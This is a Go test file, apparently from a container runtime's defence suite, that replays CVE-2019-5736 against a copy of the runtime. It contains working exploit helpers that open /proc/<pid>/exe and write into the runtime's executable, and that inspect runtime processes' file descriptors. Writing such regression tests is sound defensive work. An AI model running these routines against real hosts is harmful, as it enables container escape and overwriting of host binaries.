package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"github.com/rtcontainers/rt/internal/defence"
)

// A container must not be able to change the executable that the runtime runs in it:
// CVE-2019-5736.

var executableAttacks = []attack{
	{
		name:     "executable-by-exec",
		about:    "the program of exec is a script for /proc/self/exe; the container's root gets hold of the executable that runs there and writes to it",
		kinds:    []string{"CVE-2019-5736"},
		defences: []defence.Name{defence.Dumpable, defence.SealedImage},
		race:     true,
		mount: func(t *try) string {
			t.copyRuntime()
			b := t.attacker("overwrite-others")
			t.write(b.root("entry"), "#!/proc/self/exe\n")
			b.mkdir(b.root("result"))
			b.start()
			for range t.times(40) {
				b.exec("/entry")
				b.exec("true")
				if t.overwritten(b) {
					return "wrote to the executable of the runtime"
				}
			}
			time.Sleep(100 * time.Millisecond)
			if t.overwritten(b) {
				return "wrote to the executable of the runtime"
			}
			return ""
		},
	},
	{
		name:     "executable-by-run",
		about:    "the entry point is a script for /proc/self/exe; a neighbour in the pid namespace gets hold of the executable that runs there and writes to it",
		kinds:    []string{"CVE-2019-5736"},
		defences: []defence.Name{defence.Dumpable, defence.SealedImage},
		race:     true,
		mount: func(t *try) string {
			t.copyRuntime()
			b := t.attacker("overwrite-others")
			b.mkdir(b.root("result"))
			b.start()
			v := t.bundle("/entry")
			t.write(v.root("entry"), "#!/proc/self/exe\n")
			v.namespace(specs.PIDNamespace, b.proc("ns/pid"))
			for range t.times(20) {
				v.run()
				v.remove()
				if t.overwritten(b) {
					return "wrote to the executable of the runtime"
				}
			}
			return ""
		},
	},
	{
		name:     "executable-written",
		about:    "a neighbour with CAP_SYS_PTRACE opens the executable of a created container and writes to it after the start",
		kinds:    []string{"CVE-2019-5736"},
		defences: []defence.Name{defence.SealedImage},
		mount: func(t *try) string {
			t.copyRuntime()
			b := t.attacker("overwrite-others")
			b.capabilities("CAP_SYS_PTRACE")
			b.mkdir(b.root("result"))
			b.start()
			v := t.script("sleep 100")
			v.namespace(specs.PIDNamespace, b.proc("ns/pid"))
			v.create()
			t.await("it is held", func() bool { return fileExists(b.root("result", "held")) })
			v.do("start", v.id)
			time.Sleep(200 * time.Millisecond)
			if t.overwritten(b) {
				return "wrote to the executable of the runtime"
			}
			return ""
		},
	},
}

// copyRuntime gives the attack a copy of the runtime that it may destroy.
func (t *try) copyRuntime() {
	name := t.host(filepath.Base(t.Path))
	t.must(copyFile(t.Path, name))
	t.Path = name
}

func (t *try) overwritten(b *bundle) bool { return fileExists(b.root("result", "overwritten")) }

// overwriteOthers opens the executable of every process in the pid namespace that is not
// the container's, and tries to write to it.
func overwriteOthers([]string) error {
	own := ownExecutables()
	self := os.Getpid()
	held := map[string]*os.File{}
	for {
		for pid := 2; pid < 400; pid++ {
			if pid == self {
				continue
			}
			f, err := os.Open(fmt.Sprintf("/proc/%d/exe", pid))
			if err != nil {
				continue
			}
			info, err := f.Stat()
			if err != nil || own[fileID(info)] || held[fileID(info)] != nil || len(held) > 200 {
				f.Close()
				continue
			}
			held[fileID(info)] = f
			_ = os.WriteFile("/result/held", nil, 0o644)
		}
		for _, f := range held {
			w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0)
			if err != nil {
				continue
			}
			if _, err := w.WriteAt([]byte("attacked"), 0); err == nil {
				_ = os.WriteFile("/result/overwritten", nil, 0o644)
			}
			w.Close()
		}
	}
}

// ownExecutables are the files in /bin.
func ownExecutables() map[string]bool {
	own := map[string]bool{}
	files, _ := filepath.Glob("/bin/*")
	for _, name := range files {
		if info, err := os.Stat(name); err == nil {
			own[fileID(info)] = true
		}
	}
	return own
}

// attachOthers tries to attach to processes of the runtime.
func attachOthers([]string) error {
	own := ownExecutables()
	latest := 0
	for i := 0; ; i++ {
		if i%64 == 0 { // on a busy machine it may have missed some
			latest = lastPid()
		}
		// Pids are given in order: the next process has one of these.
		for pid := latest; pid < latest+8; pid++ {
			what, there := takeOver(pid, own)
			if there {
				latest = max(latest, pid)
			}
			if what == "" {
				continue
			}
			if err := os.WriteFile("/result/attached", []byte(what), 0o644); err != nil {
				return err
			}
			time.Sleep(time.Hour) // its end would end the pid namespace
		}
	}
}

// lastPid is the pid of the last process made in this pid namespace.
func lastPid() int {
	f := strings.Fields(read("/proc/loadavg"))
	pid, err := strconv.Atoi(f[len(f)-1])
	if err != nil {
		panic(err)
	}
	return pid
}

// takeOver checks what an attacker may do to a process that runs none of the container's
// programs, if there is one.
func takeOver(pid int, own map[string]bool) (what string, there bool) {
	info, err := os.Stat(fmt.Sprintf("/proc/%d/exe", pid))
	if err != nil || own[fileID(info)] {
		return "", !os.IsNotExist(err)
	}
	files, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	if err != nil {
		return "", true
	}
	list := []string{"executable"}
	for _, f := range files {
		target, _ := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, f.Name()))
		list = append(list, target)
	}
	return strings.Join(list, " "), true
}
